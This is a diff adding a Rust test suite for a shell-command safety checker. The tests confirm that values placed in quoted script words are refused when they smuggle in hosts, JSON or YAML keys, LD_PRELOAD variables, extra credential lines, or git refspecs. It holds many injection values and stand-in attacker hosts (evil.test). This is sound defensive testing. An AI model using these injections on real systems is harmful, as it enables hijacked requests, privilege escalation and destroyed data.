@@ -1,0 +1,345 @@
+//! A value stays the part of the author's text in which it stands: the path behind a host, the text in a JSON string, one field of
+//! a record, one line of a list, the version behind a package's name.
+//!
+//! Each attack acts when its value stands in the script as one quoted word, with real programs, and is refused.
+
+#[path = "common/acting.rs"]
+mod acting;
+#[path = "common/template.rs"]
+mod template;
+
+use acting::{all_act_and_are_refused, is_refused, judged};
+use cycod_shell::{Proof, Shell};
+use proptest::prelude::*;
+
+#[track_caller]
+fn check(attacks: &[(&str, &str)]) {
+    let attacks: Vec<_> = attacks.iter().map(|(script, value)| (Shell::Bash, *script, *value)).collect();
+    all_act_and_are_refused(&attacks);
+}
+
+#[track_caller]
+fn all_pass(scripts: &[(&str, &str)]) {
+    for (script, value) in scripts {
+        let refused = is_refused(Shell::Bash, script, value);
+        assert!(!refused, "{script}   {value}\n{:?}", judged(Shell::Bash, script).command);
+    }
+}
+
+#[test]
+fn an_address_keeps_its_host() {
+    check(&[
+        (r#"curl -sS "http://a.test{X}" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "@evil.test/"),
+        (r#"curl -sS "http://a.test{X}" 2>&1 | grep -q 'host: a.test.evil.test$' && touch PWNED"#, ".evil.test/"),
+        (r#"curl -sS "http://a.test:{X}/a" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "80@evil.test"),
+        (r#"curl -sS "http://{X}.a.test/b" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "evil.test/"),
+        (r#"curl -sS "http://u:{X}@a.test/b" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "p@evil.test/"),
+        (r#"curl -sS "http://worker{X}/b" 2>&1 | grep -q 'host: worker.evil.test$' && touch PWNED"#, ".evil.test"),
+        (
+            r#"LC_ALL=C wget -O- -T1 -t1 "http://a.test{X}" 2>&1 | grep -q "address 'evil.test'" && touch PWNED"#,
+            "@evil.test/",
+        ),
+        (
+            r#"GIT_SSH_COMMAND='f() { for a; do [ "${a#*@}" = evil.test ] && touch PWNED; done; }; f' git ls-remote "ssh://a.test{X}""#,
+            "@evil.test/r",
+        ),
+    ]);
+    all_pass(&[
+        (r#"curl "https://a.test{X}""#, "/v1/users?name=a@b"),
+        (r#"curl "https://a.test{X}""#, ""),
+        (r#"curl "https://a.test/{X}""#, "a@b"),
+        (r#"curl "https://{X}/a""#, "evil.test:80"),
+        (r#"curl "https://{X}{Y}""#, "evil.test"),
+        (r#"curl "https://{X}""#, "evil.test/a"),
+        (r#"curl "http://localhost:{X}/a""#, "8080"),
+        (r#"curl "http://worker{X}/a""#, "3"),
+        (r#"curl "http://localhost{X}""#, "/a"),
+        (r#"curl "https://{X}.a.test/b""#, "eu-west-1"),
+        (r#"curl "https://s3.{X}.a.test/b""#, "eu-west-1"),
+        (r#"echo "https://a.test{X}""#, " is down"),
+        (r#"git commit -m "see https://a.test{X}""#, " please"),
+    ]);
+}
+
+#[test]
+fn a_json_text_keeps_its_members() {
+    check(&[
+        (r#"echo "{\"admin\": false, \"name\": \"{X}\"}" | jq -e .admin && touch PWNED"#, r#"a","admin":true,"b":""#),
+        (r#"jq -en --argjson a "{\"admin\": false, \"n\": {X}}" '$a.admin' && touch PWNED"#, r#"1,"admin":true"#),
+        (r#"jq -e .admin <<< "{\"admin\": false, \"name\": \"{X}\"}" && touch PWNED"#, r#"a","admin":true,"b":""#),
+        (
+            "cat <<E | jq -e .[0].admin && touch PWNED\n[{\"admin\": false, \"name\": \"{X}\"}]\nE\n",
+            r#"a","admin":true,"b":""#,
+        ),
+        (
+            "cat > a.json <<E\n{\"admin\": false, \"name\": \"{X}\"}\nE\njq -e .admin a.json && touch PWNED",
+            r#"a","admin":true,"b":""#,
+        ),
+    ]);
+    for script in [
+        r#"curl -d '{"text": "{X}"}' https://a.test"#,
+        r#"curl --json '{"text": "{X}"}' https://a.test"#,
+        r#"curl --data-raw 'payload={"text": "{X}"}' https://a.test"#,
+        r#"kubectl patch deploy a -p '{"metadata":{"labels":{"a":"{X}"}}}'"#,
+        r#"aws events put-events --entries '[{"Detail": "{X}"}]'"#,
+        r#"gh api graphql --input - <<< '{"query": "query { a }", "variables": {"a": "{X}"}}'"#,
+    ] {
+        assert!(is_refused(Shell::Bash, script, r#"","a":""#), "{script}");
+        assert!(is_refused(Shell::Bash, script, "\\"), "{script}");
+        assert!(
+            !is_refused(Shell::Bash, script, "it's {a: b}, [c]"),
+            "{script}: {:?}",
+            judged(Shell::Bash, script).command
+        );
+        let escaped = script.replace("{X}", "{X:jsonescaped}");
+        assert!(!is_refused(Shell::Bash, &escaped, r#"say \"a\""#), "{script}");
+    }
+    all_pass(&[
+        (r#"curl -d '{"a": {X}}' https://a.test"#, r#"{"b": [1, "c, d"]}"#),
+        (r#"kubectl patch deploy a -p '{"spec":{"replicas":{X}}}'"#, "3"),
+        (r#"echo "[{X}] done""#, r#"a "quoted", \text"#),
+        (r#"echo "{X}: {}""#, r#"a "b""#),
+        (r#"jq --arg a "{X}" '{"a": $a}'"#, r#"a "b""#),
+        (r#"git commit -m "{X} {\"a\": 1}""#, r#""a""#),
+    ]);
+}
+
+#[test]
+fn a_yaml_document_keeps_its_keys() {
+    check(&[
+        ("cat > a.yaml <<E\nadmin: false\nname: {X}\nE\nyq -e .admin a.yaml && touch PWNED", "a\nadmin: true"),
+        ("cat > a.yaml <<E\nname: \"{X}\"\nE\nyq -e .admin a.yaml && touch PWNED", "a\"\nadmin: true\nb: \""),
+        ("cat > a.yml <<E\nname: '{X}'\nE\nyq -e .admin a.yml && touch PWNED", "a'\nadmin: true\nb: '"),
+        ("cat > a.yaml <<E\nuser: {X}\nE\nyq -e .user.admin a.yaml && touch PWNED", "{admin: true}"),
+        ("cat > a.yaml <<E\nuser: {name: {X}}\nE\nyq -e .user.admin a.yaml && touch PWNED", "a, admin: true"),
+        ("cat > a.yaml <<E\nb: |\n  {X}\nE\nyq -e .admin a.yaml && touch PWNED", "a\nadmin: true"),
+        (r#"echo "name: {X}" > a.yaml; yq -e .admin a.yaml && touch PWNED"#, "a\nadmin: true"),
+    ]);
+    let manifest = "kubectl apply -f - <<E\nkind: Pod\nmetadata:\n  name: {X}\nE\n";
+    for value in ["a\nspec: {}", "{a: b}", "a: b", "a #b"] {
+        assert!(is_refused(Shell::Bash, manifest, value), "{value}");
+    }
+    all_pass(&[
+        (manifest, "web-1.2"),
+        ("kubectl apply -f - <<E\nimage: {X}\nE\n", "registry.test:5000/a/b:1.2@sha256:00"),
+        ("kubectl apply -f - <<E\nnote: \"{X}\"\nE\n", "it's a: b #c\nd"),
+        ("kubectl apply -f - <<< \"{X}\"", "kind: Pod\nmetadata: {}"),
+        ("cat > notes.md <<E\nname: {X}\nE\n", "a\nb: c"),
+        ("git commit -F - <<E\nFix: {X}\nE\n", "a\n\nb: c"),
+    ]);
+}
+
+#[test]
+fn a_record_keeps_its_fields() {
+    let server = r#"python3 -c 'import socket
+s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); open("port", "w").write(str(s.getsockname()[1]))
+s.settimeout(9); c = s.accept()[0]; c.settimeout(1); d = b""
+try:
+  while True: d += c.recv(4096) or 1/0
+except Exception: pass
+c.send(b"HTTP/1.0 200 a\r\n\r\n"); b"leaked" in d and open("PWNED", "w")' & while ! [ -s port ]; do sleep 0.1; done; "#;
+    let form =
+        format!(r#"echo "A: leaked" > f; {server}curl -sS -m5 -F "a={{X}}" "http://127.0.0.1:$(cat port)/"; wait"#);
+    check(&[
+        (&form, "x;headers=@f"),
+        (r#"mkdir a b; echo a > a/.key; rsync -a --exclude .key --exclude "{X}" a/ b/; mv b/.key PWNED"#, "!"),
+        (r#"mkdir a b; echo a > a/.key; rsync -a --exclude "{X}" --exclude .key a/ b/; mv b/.key PWNED"#, "+ .key"),
+        (
+            r#"mkdir a; cd a; echo a > k.key; echo b > b; zip -q -r ../o.zip b -x "*.txt" "{X}" k.key; cd ..; unzip -q o.zip && mv k.key PWNED"#,
+            "@",
+        ),
+    ]);
+    for (script, value) in [
+        (r#"docker build --attest "type=sbom,generator={X}" ."#, "evil"),
+        (r#"docker build --sbom "{X}" ."#, "generator=evil"),
+        (r#"docker build --output "{X}" ."#, "type=registry,name=evil"),
+        (r#"docker build --secret "id={X},src=a" ."#, "a,src=b"),
+        (r#"docker build --build-context "{X}" ."#, "alpine=docker-image://evil"),
+        (r#"gcloud run deploy a --set-env-vars "A={X}""#, "a,NODE_OPTIONS=--require=b"),
+        (r#"gcloud run deploy a --set-env-vars "{X}""#, "LD_PRELOAD=a"),
+        (r#"aws lambda update-function-configuration --environment "Variables={A={X}}""#, "a,LD_PRELOAD=b"),
+        (r#"aws ec2 create-tags --tags "Key=a,Value={X}""#, "a,Key=b"),
+        (r#"kubectl set env deploy/a "{X}""#, "LD_PRELOAD=a"),
+        (r#"heroku config:set "{X}""#, "LD_PRELOAD=a"),
+        (r#"gh api graphql -f query="query { a(b: \"{X}\") }""#, "a"),
+        (r#"gh api graphql -f "{X}""#, "query=mutation { a }"),
+        (r#"gh codespace cp -e "remote:{X}" b"#, "$(a)"),
+        (r#"gh extension exec "{X}""#, "a"),
+        (r#"yq eval "{X}" f"#, r#"load("a")"#),
+        (r#"mysqladmin "{X}""#, "shutdown"),
+    ] {
+        assert!(is_refused(Shell::Bash, script, value), "{script}");
+    }
+    all_pass(&[
+        (r#"curl -F "a={X}" https://a.test"#, "a, b (c)"),
+        (r#"rsync -a --exclude "{X}" a b"#, "*.key"),
+        (r#"rsync -a --filter="- {X}" a b"#, "*.key"),
+        (r#"zip -r a.zip . -x "{X}""#, "*.key"),
+        (r#"docker build --output "type=local,dest={X}" ."#, "out"),
+        (r#"docker build -o "{X}" ."#, "out"),
+        (r#"docker build --label "a={X}" ."#, "a, b"),
+        (r#"docker build --build-context "a={X}" ."#, "../a"),
+        (r#"gcloud run deploy a --set-env-vars "A={X}""#, "a b"),
+        (r#"aws ec2 create-tags --tags "Key=a,Value={X}""#, "a b"),
+        (r#"kubectl set env deploy/a A="{X}""#, "a b"),
+        (r#"heroku config:set A="{X}" -a app"#, "a b"),
+        (r#"gh api graphql -f query='query { a }' -f owner="{X}""#, "a"),
+    ]);
+}
+
+#[test]
+fn a_line_stays_one() {
+    check(&[
+        (
+            r#"printf 'protocol=https\nhost=a.test\npath=%s\n\n' "{X}" | git -c credential.helper='!f() { grep -q ^host=evil.test && touch "$OLDPWD/PWNED"; }; cd .; f' credential approve"#,
+            "a\nhost=evil.test\nusername=u\npassword=p",
+        ),
+        (r#"S=secret; export S; echo "{X}" | envsubst | grep -q secret && touch PWNED"#, "$S"),
+    ]);
+    for (script, value) in [
+        (r#"echo "root:{X}" | chpasswd"#, "a\nother:b"),
+        (r#"printf 'To: a@b.test\nSubject: %s\n\nText\n' "{X}" | sendmail -t"#, "a\nBcc: c@d.test"),
+        (r#"echo "{X}" | terraform console"#, r#"file("a")"#),
+        (r#"echo "{X}" | nft -f -"#, "flush ruleset"),
+        (r#"echo "{X}" | iptables-restore"#, "*filter"),
+        (r#"echo "{X}" | nsupdate"#, "send"),
+    ] {
+        assert!(is_refused(Shell::Bash, script, value), "{script}");
+    }
+    all_pass(&[
+        (r#"echo "root:{X}" | chpasswd"#, "p:a ss$"),
+        ("sendmail -t <<E\nTo: a@b.test\nSubject: a\n\n{X}\nE\n", "a\nb"),
+        ("sendmail -t <<E\nTo: a@b.test\nSubject: {X}\n\nb\nE\n", "a: b"),
+    ]);
+}
+
+#[test]
+fn a_name_stays_the_one_that_the_author_wrote() {
+    check(&[
+        (
+            r#"mkdir e; echo '{"name":"a","version":"1.0.0","scripts":{"install":"touch $INIT_CWD/PWNED"}}' > e/package.json; npm install --offline "a@{X}""#,
+            "file:e",
+        ),
+        (r#"apt-get -s install "{X}" | grep -q ^Remv && touch PWNED"#, "nano-"),
+        (
+            r#"git init -q --bare r; git init -q w; cd w; git commit -q --allow-empty -m a; git branch -M main; git push -q ../r main main:b; git push ../r "{X}"; git --git-dir ../r rev-parse -q --verify b || touch ../PWNED"#,
+            ":b",
+        ),
+        (
+            r#"git init -q --bare r; git init -q w; cd w; git commit -q --allow-empty -m a; git branch -M a; git push ../r "{X}"; git --git-dir ../r rev-parse -q --verify main && touch ../PWNED"#,
+            "a:main",
+        ),
+        (
+            r#"git init -q r; cd r; git commit -q --allow-empty -m a; git branch -M main; git branch evil; cd ..; git init -q w; cd w; git commit -q --allow-empty -m z; git branch -M a; git branch main; old=$(git rev-parse main); git fetch ../r "{X}"; [ "$old" = "$(git rev-parse main)" ] || touch ../PWNED"#,
+            "+evil:main",
+        ),
+    ]);
+    for (script, value) in [
+        (r#"npm install "@types/{X}""#, "a@https://evil.test/a.tgz"),
+        (r#"pnpm add "a@{X}""#, "npm:evil"),
+        (r#"yarn add "a@{X}""#, "evil/a"),
+        (r#"npm install "github-api@{X}""#, "evil/a"),
+        (r#"git pull origin "{X}""#, "+evil:main"),
+        (r#"apt-get remove -y "{X}""#, "?installed"),
+    ] {
+        assert!(is_refused(Shell::Bash, script, value), "{script}");
+    }
+    all_pass(&[
+        (r#"npm install "a@{X}""#, "^1.0.0"),
+        (r#"npm install "@types/{X}""#, "node@20"),
+        (r#"npm install "./packages/{X}""#, "a/b"),
+        (r#"npm install "{X}""#, "github:a/b"),
+        (r#"npm install "github:{X}""#, "a/b"),
+        (r#"apt-get install "{X}""#, "g++"),
+        (r#"apt search "{X}""#, "^lib.*-"),
+        (r#"git push origin "{X}""#, "feature/a"),
+        (r#"git push origin "HEAD:{X}""#, "refs/heads/a"),
+        (r#"git fetch origin "pull/{X}/head""#, "12"),
+    ]);
+}
+
+/// What stands behind the `--` of a task's runner is read by the task's program.
+#[test]
+fn a_task_reads_options() {
+    for script in [
+        r#"pnpm run a -- "{X}""#,
+        r#"pnpm run a "{X}""#,
+        r#"pnpm vitest "{X}""#,
+        r#"yarn a "{X}""#,
+        r#"yarn run a -- "{X}""#,
+        r#"bun run a -- "{X}""#,
+        r#"bun run a "{X}""#,
+    ] {
+        assert!(is_refused(Shell::Bash, script, "-x"), "{script}");
+        assert!(!is_refused(Shell::Bash, script, "x"), "{script}: {:?}", judged(Shell::Bash, script).command);
+    }
+    for script in [r#"pnpm run a -- -- "{X}""#, r#"bun run a -- -- "{X}""#, r#"yarn run a -- -- "{X}""#] {
+        assert!(!is_refused(Shell::Bash, script, "-x"), "{script}: {:?}", judged(Shell::Bash, script).command);
+    }
+}
+
+/// A JSON text of the author's with one place for a value, as text around it.
+fn json_around() -> impl Strategy<Value = (String, String, bool)> {
+    let leaf = (any::<bool>()).prop_map(|is_string| {
+        if is_string { ("\"".to_owned(), "\"".to_owned(), true) } else { (String::new(), String::new(), false) }
+    });
+    leaf.prop_recursive(4, 8, 1, |inner| {
+        (inner, "[a-z]{1,3}", 0..4_u8).prop_map(|((before, after, is_string), key, form)| match form {
+            0 => (format!("{{\"{key}\": {before}"), format!("{after}}}"), is_string),
+            1 => {
+                (format!("{{\"a\": \"\\\"{{\", \"{key}\":{before}"), format!("{after}, \"z\": [1, {{}}]}}"), is_string)
+            }
+            2 => (format!("[\"{key}\", {before}"), format!("{after}]"), is_string),
+            _ => (format!("[{{\"x\": 1, \"{key}\": {before}"), format!("{after}, \"admin\": false}}]"), is_string),
+        })
+    })
+}
+
+/// Replaces the mark in a document by a value.
+fn with(document: &mut serde_json::Value, mark: &serde_json::Value, value: &serde_json::Value) {
+    match document {
+        one if one == mark => *one = value.clone(),
+        serde_json::Value::Array(items) => items.iter_mut().for_each(|item| with(item, mark, value)),
+        serde_json::Value::Object(members) => members.values_mut().for_each(|item| with(item, mark, value)),
+        _ => {}
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(2_000))]
+
+    /// Whatever value passes in a JSON text, the document is the author's with that value in its place, or it is no JSON at all.
+    #[test]
+    fn a_value_in_json_is_one(
+        (before, after, is_string) in json_around(),
+        value in r#"[ab1,:{}\[\]" \\\n]{0,8}|"[a,:{}\\]{0,4}"|\{"a": ?[1b"]{0,3}\}|","admin":true,"b":""#,
+    ) {
+        let escaped = format!("{before}{{X}}{after}").replace('\'', "");
+        let script = format!("curl -d '{escaped}' https://a.test");
+        let is_json = before.starts_with("{\"") || before.starts_with("[\"") || before.starts_with("[{\"");
+        if is_json && !is_refused(Shell::Bash, &script, &value)
+            && let Ok(document) = serde_json::from_str::<serde_json::Value>(&format!("{before}{value}{after}"))
+        {
+            let mark = "the mark";
+            let quoted = if is_string { mark.to_owned() } else { format!("\"{mark}\"") };
+            let mut expected: serde_json::Value = serde_json::from_str(&format!("{before}{quoted}{after}")).unwrap();
+            let value = if is_string { serde_json::Value::from(value) } else { serde_json::from_str(&value).unwrap() };
+            with(&mut expected, &mark.into(), &value);
+            prop_assert_eq!(document, expected);
+        }
+    }
+}
+
+#[test]
+fn what_is_data_says_what_a_value_must_be() {
+    let judgement = judged(Shell::Bash, r#"curl -d '{"a": "{X}"}' "https://a.test{Y}""#);
+    let conditions: Vec<String> = judgement.command.iter().flat_map(|verdict| verdict.conditions()).collect();
+    assert!(judgement.command.iter().all(|verdict| verdict.proof == Proof::Data));
+    assert_eq!(
+        conditions,
+        [
+            "without `\"` and `\\`, because it stands in a JSON string",
+            "beginning with `/`, `?` or `#`, because it stands behind a host"
+        ]
+    );
+}
